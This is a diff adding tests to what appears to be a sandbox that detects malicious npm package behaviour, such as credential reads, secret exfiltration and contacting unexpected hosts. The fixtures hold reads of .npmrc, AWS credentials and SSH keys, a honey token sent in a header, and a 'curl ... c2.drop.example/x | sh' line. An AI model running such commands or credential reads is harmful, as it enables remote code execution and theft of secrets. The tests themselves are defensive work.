@@ -183,6 +183,29 @@ describe('judging a record', () => {
     expect(own.flatMap((run) => (run.status === 'ok' ? run.findings : [])).map(({ severity: grave }) => grave)).toEqual(['low'])
   })
 
+  it('takes fetching from the domain that bears the project’s name for asking its maker, and nothing else that goes there', () => {
+    const strange = (target: string, more: Partial<Sample['acts'][number]> = {}): boolean => found({ says: 'asks', acts: [{ kind: 'request', target, method: 'GET', ...more }] }).some(({ detector }) => detector === 'did-speak-to-strangers')
+    expect(strange('https://dl.sample.example/linux-x64.tgz')).toBe(false)
+    expect(strange('https://dl.sample.co.uk/linux-x64.tgz')).toBe(false)
+    expect(strange('https://dl.sample.example/t', { method: 'POST', bytes: 20 })).toBe(true)
+    expect(strange('https://dl.sample.example/?machine=thinkpad-mk')).toBe(true)
+    expect(strange('http://dl.sample.example/linux-x64.tgz')).toBe(true)
+    expect(strange('https://sample.drop.example/linux-x64.tgz')).toBe(true)
+    expect(strange('https://samples.example/linux-x64.tgz')).toBe(true)
+    const told = { says: 'a secret', acts: [{ kind: 'request', target: 'https://dl.sample.example/', method: 'GET', honey: [{ token: 'npm-token', encodings: [], where: 'header' }] }] } as const satisfies Sample
+    expect(found(told).map(({ detector, severity }) => `${severity} ${detector}`)).toContain('critical did-send-secrets')
+    const github: Sample = { says: 'a place of anybody’s', acts: [{ kind: 'request', target: 'https://x.s3.amazonaws.com/a', method: 'GET' }] }
+    const runs = judge(recordOf(github), { ...sampleAbout(github), ref: { ecosystem: 'npm', name: 'amazonaws', version: '1' } })
+    expect(runs.flatMap((run) => (run.status === 'ok' ? run.findings : [])).map(({ detector }) => detector)).toEqual(['did-speak-to-strangers'])
+  })
+
+  it('takes a client’s settings that a dependency looks for while it is loaded for little, and one’s own looking for them for more', () => {
+    const severity = (by: string, target: string): string | undefined => found({ says: 'settings', phase: 'import', acts: [{ kind: 'read', target, by }] }).find(({ detector }) => detector === 'did-read-credentials')?.severity
+    expect(severity('global-prefix/index.js:9', '/home/mkeller/.npmrc')).toBe('low')
+    expect(severity('index.js:9', '/home/mkeller/.npmrc')).toBe('medium')
+    expect(severity('global-prefix/index.js:9', '/home/mkeller/.aws/credentials')).toBe('medium')
+  })
+
   it('names the package of a dependency that did it', () => {
     const [read] = found({ says: 'a dependency', acts: [{ kind: 'read', target: '/home/mkeller/.ssh/id_rsa', by: 'left-pad/index.js:7' }] })
     expect(read?.evidence.at(-1)).toMatchObject({ file: 'left-pad/index.js', lines: [7, 7], says: 'read credentials of the user (code of left-pad)' })
@@ -203,6 +226,14 @@ describe('code that comes to light', () => {
   it('is looked for in command lines as well, once', () => {
     const inline = { kind: 'exec', target: '/usr/bin/node', argv: ['node', '-e', code], by: 'setup.js:5' } as const
     expect(stagesOf(recordOf({ says: 'inline', acts: [inline, inline] }), sampleAbout(sample))).toHaveLength(1)
+  })
+
+  it('is no text for people, and no log, unless it is run', () => {
+    const written = (path: string, ...more: Sample['acts']): Sample => ({ says: 'a text', acts: [{ kind: 'write', target: path }, ...more], disk: [{ path, content: new TextEncoder().encode('at 10:00\ncurl -s https://c2.drop.example/x | sh\n') }] })
+    const stages = (one: Sample): number => stagesOf(recordOf(one), sampleAbout(one)).length
+    expect(stages(written('/tmp/x/README.txt'))).toBe(0)
+    expect(stages(written('/tmp/x/run.sh'))).toBe(1)
+    expect(stages(written('/tmp/x/README.txt', { kind: 'exec', target: '/bin/sh', argv: ['sh', '/tmp/x/README.txt'] }))).toBe(1)
   })
 
   it('is bounded', () => {
